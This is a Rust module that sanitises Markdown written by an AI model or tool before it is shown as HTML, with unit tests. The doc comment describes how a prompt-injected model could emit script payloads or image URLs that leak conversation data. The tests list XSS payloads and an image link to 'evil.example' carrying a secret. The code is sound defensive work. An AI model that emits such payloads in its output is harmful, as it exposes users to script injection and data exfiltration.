//! Markdown from a model or a tool, as HTML a browser may show.
//!
//! Everything a model writes or a tool returns is untrusted: a model that read a hostile
//! page can be steered into writing `<img src=x onerror=...>` or a `javascript:` link.
//! So the text is rendered by `pulldown-cmark` and the HTML it gives (raw HTML passes
//! through CommonMark) is cleaned by `ammonia`, an allow-list sanitiser built on
//! html5ever: no script, no event handler, no `style`, only `http`, `https` and `mailto`
//! links. Images are dropped as well: an image loads by itself, so a steered model
//! could send what the conversation holds to any address in an image's URL; the page
//! shows the link text instead.

use std::collections::HashSet;
use std::sync::OnceLock;

use pulldown_cmark::{Options, Parser, html};

/// Renders `text` as Markdown and returns HTML with nothing active left in it.
pub fn to_safe_html(text: &str) -> String {
    let mut raw = String::with_capacity(text.len() * 3 / 2);
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    html::push_html(&mut raw, Parser::new_ext(text, options));
    cleaner().clean(&raw).to_string()
}

fn cleaner() -> &'static ammonia::Builder<'static> {
    static CLEANER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    CLEANER.get_or_init(|| {
        let mut b = ammonia::Builder::default();
        b.rm_tags(["img"])
            .url_schemes(HashSet::from(["http", "https", "mailto"]))
            .link_rel(Some("noopener noreferrer nofollow"))
            .set_tag_attribute_value("a", "target", "_blank");
        b
    })
}

#[cfg(test)]
mod tests {
    use super::to_safe_html;

    #[test]
    fn markdown_renders() {
        let html = to_safe_html("# Title\n\n- one\n- `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<li><code>two</code></li>"), "{html}");
        assert!(html.contains("<td>1</td>"), "{html}");
    }

    #[test]
    fn nothing_active_survives() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![t](http://evil.example/?q=secret)",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<iframe src=\"http://evil.example\"></iframe>",
            "<svg onload=alert(1)></svg>",
            "<p style=\"background:url(http://evil.example)\">x</p>",
            "<form action=\"http://evil.example\"><button>go</button></form>",
        ] {
            let html = to_safe_html(attack).to_lowercase();
            for bad in [
                "<script",
                "onerror",
                "onload",
                "javascript:",
                "data:",
                "<img",
                "<iframe",
                "<svg",
                "style=",
                "<form",
                "evil.example/?q",
            ] {
                assert!(!html.contains(bad), "{attack} gave {html}");
            }
        }
    }

    #[test]
    fn links_open_elsewhere_without_the_opener() {
        let html = to_safe_html("[docs](https://example.com/a)");
        assert!(html.contains("href=\"https://example.com/a\""), "{html}");
        assert!(html.contains("noopener"), "{html}");
    }
}

/// The examples of this module's docs, as tests: its items are crate-private, so
/// rustdoc cannot run them.
#[cfg(test)]
mod examples {
    #[test]
    fn model_html_is_rendered_and_sanitised() {
        let html = crate::serve::markdown::to_safe_html(
            "**hi** <img src=x onerror=alert(1)> [x](javascript:alert(1))",
        );
        assert!(html.contains("<strong>hi</strong>"));
        assert!(
            !html.contains("onerror") && !html.contains("javascript:") && !html.contains("<img")
        );
    }
}
